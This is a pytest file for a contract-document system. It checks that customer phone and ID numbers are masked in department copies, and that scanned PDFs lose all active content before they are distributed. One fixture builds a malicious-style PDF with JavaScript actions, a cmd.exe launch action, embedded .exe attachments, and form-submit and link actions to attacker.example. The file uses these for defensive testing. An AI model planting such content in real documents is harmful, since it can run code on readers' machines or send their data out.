"""Personal data stays where the policy allows: masked copies however a template places the
data, and no copy leaves when masking cannot reach it."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
import scanmaker
from conftest import ROOT, new, run
from pypdf import PdfReader

from docgen.privacy import leaks

ID, PHONE = "440308199001011239", "13812345678"
MASKED_ID, MASKED_PHONE = "440308********1239", "138****5678"
PERSONAL = [(ID, ""), (PHONE, "")]

# a text box anchored in the first paragraph (VML, as Word and WPS still write them)
TEXT_BOX = (
    '<w:p><w:r><w:pict><v:shape id="docgen-test-box" type="#_x0000_t202" '
    'style="width:260pt;height:40pt"><v:textbox><w:txbxContent><w:p><w:r>'
    "<w:t>{text}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)


SHOWN = "电话 {{ customer.phone }} 身份证 {{ customer.id_number }}"
EVERY_PART = ("header", "footer", "header box")


def company_template(dest: Path, places: tuple[str, ...] = EVERY_PART, shown: str = SHOWN) -> Path:
    """A company's contract.docx that shows the customer's phone and ID number only outside
    the body's text: in the header, the footer, a text box in the header ("header box") or in
    the body ("body box"); the body's own fields say 见页眉."""
    src = zipfile.ZipFile(ROOT / "templates" / "contract.docx")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                xml = data.decode()
                for field in ("{{ customer.id_number or '' }}", "{{ customer.phone }}"):
                    assert field in xml
                    xml = xml.replace(field, "见页眉")
                if "body box" in places:
                    first = xml.index("</w:p>") + len("</w:p>")
                    xml = xml[:first] + TEXT_BOX.format(text="正文文本框 " + shown) + xml[first:]
                data = xml.encode()
            elif item.filename in ("word/header1.xml", "word/footer1.xml"):
                xml = data.decode()
                header = "header" in item.filename
                end = "</w:hdr>" if header else "</w:ftr>"
                added = ""
                if (header and "header" in places) or (not header and "footer" in places):
                    added += f"<w:p><w:r><w:t>{'页眉' if header else '页脚'} {shown}</w:t></w:r></w:p>"
                if header and "header box" in places:
                    added += TEXT_BOX.format(text="页眉文本框 " + shown)
                data = xml.replace(end, added + end).encode()
            dst.writestr(item, data)
    dest.parent.mkdir(parents=True, exist_ok=True)
    dest.write_bytes(out.getvalue())
    return dest


def page_texts(path: Path) -> list[str]:
    """The text of every page, as pypdf extracts it (headers, footers and text boxes included)."""
    return [page.extract_text() or "" for page in PdfReader(path).pages]


def assert_masked_everywhere(path: Path) -> None:
    texts = page_texts(path)
    for n, text in enumerate(texts, 1):
        assert leaks(text, PERSONAL) == [], f"page {n} of {path.name}"
    from test_distribute import assert_no_personal_data, pdf_text

    assert_no_personal_data(path)  # poppler's reading too, the metadata and the bytes
    # the data is masked where the template put it, not dropped
    whole = pdf_text(path)
    assert MASKED_PHONE in whole and MASKED_ID in whole, whole


@pytest.fixture
def company(archive_dir: Path, work: Path) -> dict:  # type: ignore[type-arg]
    """An approved contract made from the company template, and its generated PDF."""
    company_template(archive_dir / "templates" / "contract.docx")
    new("quote", work / "quote.yaml")
    made = new("contract", work / "contract.yaml")
    assert run("review", made["number"], "submit").exit_code == 0
    assert run("review", made["number"], "approve").exit_code == 0
    return made


def test_the_company_template_shows_the_data_outside_the_body(company: dict) -> None:  # type: ignore[type-arg]
    """The premise: the generated contract shows both numbers in the header, the footer and
    the header's text box of every page, and its body (the version's text) does not."""
    texts = page_texts(Path(company["files"]["pdf"]))
    assert all(t.count(PHONE) >= 3 and t.count(ID) >= 3 for t in texts)
    assert "页眉文本框" in texts[0]
    docx = Path(company["files"]["docx"])
    from docx import Document

    from docgen.render.docx import document_text, shown_text

    assert PHONE not in document_text(Document(docx)) and ID not in document_text(Document(docx))
    everywhere = shown_text(docx.read_bytes())
    for where in ("页眉", "页脚", "页眉文本框"):
        assert f"{where} 电话 13812345678 身份证 440308199001011239" in everywhere.splitlines()


@pytest.mark.parametrize("place", ["header", "footer", "header box", "body box"])
def test_each_part_alone_is_masked(place: str, archive_dir: Path, work: Path, tmp_path: Path) -> None:
    company_template(archive_dir / "templates" / "contract.docx", (place,))
    new("quote", work / "quote.yaml")
    made = new("contract", work / "contract.yaml")
    assert PHONE in page_texts(Path(made["files"]["pdf"]))[0]
    r = run("pull", made["number"], "--as", "finance", "--version", "1", "-o", tmp_path)
    assert r.exit_code == 0, r
    assert_masked_everywhere(tmp_path / f"{made['number']}_v1_财务联.pdf")


def test_header_footer_and_text_box_are_masked_in_delivered_and_pulled_copies(
    company: dict, archive_dir: Path, tmp_path: Path  # type: ignore[type-arg]
) -> None:
    number = company["number"]
    scan = scanmaker.scan(Path(company["files"]["pdf"]), tmp_path / "signed.pdf", 200, seed=11)
    r = run("ingest", scan)
    assert r.exit_code == 0, r
    assert f"delivered   {number} v2 [signed] to customer" in r.stdout and "finance (第二联 财务)" in r.stdout
    for dept, name in (("finance", "财务"), ("engineering", "工程")):
        assert_masked_everywhere(archive_dir / "outbox" / dept / f"{number}_v2_{name}联.pdf")
    out = tmp_path / "pulled"
    r = run("pull", number, "--as", "finance", "-o", out)
    assert r.exit_code == 0, r
    assert_masked_everywhere(out / f"{number}_v2_财务联.pdf")
    r = run("pull", number, "--as", "finance", "--version", "1", "-o", out)  # the approved version itself
    assert r.exit_code == 0, r
    assert_masked_everywhere(out / f"{number}_v1_财务联.pdf")
    # who may see personal data still sees it
    assert run("pull", number, "--as", "legal", "--version", "1", "-o", out).exit_code == 0
    assert all(PHONE in t for t in page_texts(out / f"{number}_v1_法务联.pdf"))


def test_a_template_masking_cannot_reach_is_refused_never_sent(
    archive_dir: Path, work: Path, tmp_path: Path
) -> None:
    # the digits joined by a character no writer of a number uses: masking does not see the
    # number, a reader does
    company_template(archive_dir / "templates" / "contract.docx", ("header",),
                     shown='电话 {{ customer.phone|join("~") }}')
    new("quote", work / "quote.yaml")
    made = new("contract", work / "contract.yaml")
    number = made["number"]
    assert "1~3~8~1~2~3~4~5~6~7~8" in page_texts(Path(made["files"]["pdf"]))[0]
    assert run("review", number, "submit").exit_code == 0
    assert run("review", number, "approve").exit_code == 0
    out = tmp_path / "pulled"
    r = run("pull", number, "--as", "finance", "-o", out)
    assert r.exit_code == 1, r
    assert r.stderr.strip().splitlines() == [
        f"Error: {number} v1 for finance: the customer's phone number is still readable on page 1 after masking; "
        "no copy was made (the template writes it in a way masking cannot reach; print the field as it is, "
        "e.g. {{ customer.phone }})"
    ]
    assert not out.exists() or not list(out.iterdir())
    # signed: the departments that may see it get their copies; the masked ones get nothing
    scan = scanmaker.scan(Path(made["files"]["pdf"]), tmp_path / "signed.pdf", 200, seed=12)
    r = run("ingest", scan)
    assert r.exit_code == 0, r  # the scan is filed all the same
    assert f"copies not delivered: {number}: {number} v2 for finance: the customer's phone number is still readable " \
           "on page 1 after masking; no copy was made" in r.stderr
    assert not list((archive_dir / "outbox").rglob(f"{number}*"))
    log = json.loads(run("log", number, "--json").stdout)
    assert not [e for e in log if e["action"] in ("delivered", "pulled")]
    r = run("pull", number, "--as", "legal", "-o", out)  # the signed scan, which legal may see
    assert r.exit_code == 0, r


# copies of scans carry no active content ---------------------------------------------------------

JS_MARK, FILE_MARK = "docgen-test-script", b"docgen-test-attached-file"
ACTIVE_NAMES = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/EmbeddedFile", "/EmbeddedFiles",
                "/XFA", "/AcroForm", "/Annots", "/SubmitForm", "/URI", "/FileAttachment", "/Widget"}


def active_scan(clean: Path, out: Path) -> Path:
    """The scan with every kind of active content a PDF can carry: a script on opening, actions
    of the document and of a page, a document-level script, an attached file, a launch action,
    a link running a script, a file-attachment annotation, a form with a submit action, field
    actions and XFA."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.open(clean)

    def js(n: str) -> pikepdf.Object:
        return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript,
                                            JS=String(f"app.alert('{JS_MARK} {n}')")))

    pdf.Root.OpenAction = js("open")
    pdf.Root.AA = Dictionary(WC=js("will-close"), WP=js("will-print"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js("names")])))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, FILE_MARK + b" via /EmbeddedFiles")
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=js("page-open"), C=js("page-close"))
    spec = pikepdf.AttachedFileSpec(pdf, FILE_MARK + b" via an annotation", filename="note.exe")
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("submit"), Rect=[10, 10, 60, 30],
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/collect"))),
        AA=Dictionary(E=js("field-enter"), K=js("field-keystroke")),
    ))
    annots = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100],
                   A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[100, 0, 200, 100], A=js("link")),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[200, 0, 300, 100],
                   A=Dictionary(S=Name.URI, URI=String("http://attacker.example/track"))),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[300, 0, 320, 20], FS=spec.obj,
                   Contents=String("attached")),
        field,
    ]
    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(a) if not a.is_indirect else a for a in annots]))
    xfa = pdf.make_stream(f"<xdp:xdp><script>{JS_MARK} xfa</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedAppearances=True)
    pdf.save(out)
    return out


def active_parts(path: Path) -> set[str]:
    """What of the active content a PDF still holds: the names, and the script and file
    marks in any string or (decoded) stream."""
    import pikepdf

    found: set[str] = set()
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            stack = [obj]
            while stack:
                o = stack.pop()
                if isinstance(o, pikepdf.Name):
                    found.add(str(o))
                elif isinstance(o, pikepdf.String):
                    if JS_MARK in str(o):
                        found.add("script")
                elif isinstance(o, pikepdf.Array):
                    stack.extend(x for x in o if isinstance(x, pikepdf.Object) and not x.is_indirect)
                elif isinstance(o, pikepdf.Dictionary | pikepdf.Stream):
                    found.update(o.keys())
                    stack.extend(v for _k, v in o.items() if isinstance(v, pikepdf.Object) and not v.is_indirect)
                    if isinstance(o, pikepdf.Stream):
                        try:
                            raw = o.read_bytes()
                        except pikepdf.PdfError:  # an image's own coding (JPEG): as stored
                            raw = o.read_raw_bytes()
                        if FILE_MARK in raw:
                            found.add("attached file")
                        if JS_MARK.encode() in raw:
                            found.add("script")
    return found & (ACTIVE_NAMES | {"script", "attached file"})


def test_copies_of_a_scan_carry_no_active_content(scans: Path, archive_dir: Path, tmp_path: Path) -> None:
    import hashlib

    scan = active_scan(scans / "ht.pdf", scans / "ht-active.pdf")
    planted = active_parts(scan)
    assert planted == ACTIVE_NAMES | {"script", "attached file"}  # the attack is all there
    sha = hashlib.sha256(scan.read_bytes()).hexdigest()
    scan_images = [p.images[0].data for p in PdfReader(scan).pages]
    r = run("ingest", scan)
    assert r.exit_code == 0, r
    assert "delivered   HT-2026-0001 v2 [signed] to customer (第一联 客户留存), finance (第二联 财务)" in r.stdout
    out = tmp_path / "pulled"
    for dept in ("legal", "customer"):
        assert run("pull", "HT-2026-0001", "--as", dept, "-o", out).exit_code == 0
    copies = [archive_dir / "outbox" / d / f"HT-2026-0001_v2_{n}联.pdf"
              for d, n in (("customer", "客户"), ("legal", "法务"), ("finance", "财务"), ("engineering", "工程"))]
    copies += [out / "HT-2026-0001_v2_法务联.pdf", out / "HT-2026-0001_v2_客户联.pdf"]
    for copy in copies:
        assert active_parts(copy) == set(), copy.name
        reader = PdfReader(copy)
        assert len(reader.pages) == 9
    for copy in copies[:2] + copies[4:]:  # the scan itself: its page images, whole
        pages = PdfReader(copy).pages
        assert [p.images[0].data for p in pages[1:]] == scan_images[1:]
    # the archived scan is the file as it came, active content and all
    version = json.loads(run("show", "HT-2026-0001", "--json").stdout)["versions"][-1]
    assert version["files"]["scan"]["sha256"] == sha
    blob = archive_dir / "objects" / sha[:2] / sha
    assert hashlib.sha256(blob.read_bytes()).hexdigest() == sha
    assert active_parts(blob) == planted
    assert run("verify").exit_code == 0


def test_a_scan_made_of_images_is_copied_whole(scans: Path, archive_dir: Path) -> None:
    """Cleaning keeps what a page shows: every page's image, size and turn."""
    r = run("ingest", scans / "bj.tif")
    assert r.exit_code == 0, r
    copy = archive_dir / "outbox" / "customer" / "BJ-2026-0001_v2_客户联.pdf"
    reader = PdfReader(copy)
    assert len(reader.pages) == 2 and all(len(p.images) == 1 for p in reader.pages)
    assert active_parts(copy) == set()


def test_cleaning_keeps_inherited_page_attributes(scans: Path, tmp_path: Path) -> None:
    """A scanner may put the page size, turn and resources on the page tree, not on each page:
    the cleaned copy shows the same pages."""
    import pikepdf

    from docgen.distribute import inert_pdf

    src = pikepdf.open(scans / "bj.pdf")
    tree = src.Root.Pages
    first = src.pages[0].obj
    tree.MediaBox, tree.Rotate, tree.Resources = first.MediaBox, 90, first.Resources
    for page in src.pages:
        del page.obj["/MediaBox"]
        del page.obj["/Resources"]
    src.save(tmp_path / "inherited.pdf")
    cleaned = tmp_path / "cleaned.pdf"
    cleaned.write_bytes(inert_pdf((tmp_path / "inherited.pdf").read_bytes()))
    before, after = scanmaker.render(tmp_path / "inherited.pdf", 40), scanmaker.render(cleaned, 40)
    assert [im.size for im in after] == [im.size for im in before] and before[0].width > before[0].height
    assert [im.tobytes() for im in after] == [im.tobytes() for im in before]


@pytest.mark.parametrize("x", [20.0, -150.0, 400.0])
def test_the_leak_check_reads_text_drawn_outside_the_page(x: float) -> None:
    """A number drawn off the page is shown by no viewer but taken by any program that copies
    the text: a masked copy holding one is refused like one showing it."""
    from fpdf import FPDF

    from docgen.distribute import check_masked
    from docgen.errors import DocgenError

    pdf = FPDF(unit="mm", format="A4")
    pdf.add_page()
    pdf.set_font("helvetica", size=10)
    pdf.text(20, 20, "138****5678")  # what masking leaves is fine
    pdf.text(x, 150, "13812345678")
    with pytest.raises(DocgenError, match="phone number is still readable on page 1"):
        check_masked(bytes(pdf.output()), [("13812345678", "138****5678")], "HT-2026-0001 v1 for finance")
